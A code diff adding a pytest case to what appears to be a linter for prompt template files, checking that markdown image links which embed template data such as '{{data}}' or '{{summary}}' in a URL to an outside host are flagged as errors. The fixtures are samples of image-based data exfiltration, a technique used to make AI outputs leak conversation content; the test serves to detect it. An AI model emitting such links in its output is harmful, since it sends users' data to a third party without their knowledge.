@@ -204,3 +204,18 @@ def test_short_base64_counts_for_what_it_says():
         told("camelCaseIdentifierOfSomeLength 12345678901234567890 sha1-abcdef0123456789abcdef")
         == []
     )
+
+
+@pytest.mark.parametrize(
+    ("defaults", "content", "expected"),
+    [
+        ("@u https://a.net/p?d=", "![x]({u}{{data}})", ("PS020", "error")),
+        ("@u https://a.net/{{summary}}.png", "![x]({u})", ("PS020", "error")),
+        ("@u ![x](https://a.net/?q=", "{u}<the answer>)", ("PS020", "error")),
+        ("@u https://a.net/x.png", "![x]({u})", ("PS021", "warning")),
+        ("@u x.png", "![x](https://a.net/{u}?{{data}})", ("PS020", "error")),
+    ],
+)
+def test_an_image_that_defaults_complete_is_judged(defaults, content, expected):
+    head = f"[METADATA]\n@dotprompt_format_version 0.0.1\n[DEFAULTS]\n{defaults}\n[CONTENT]\n"
+    assert expected in told(content, head=head)
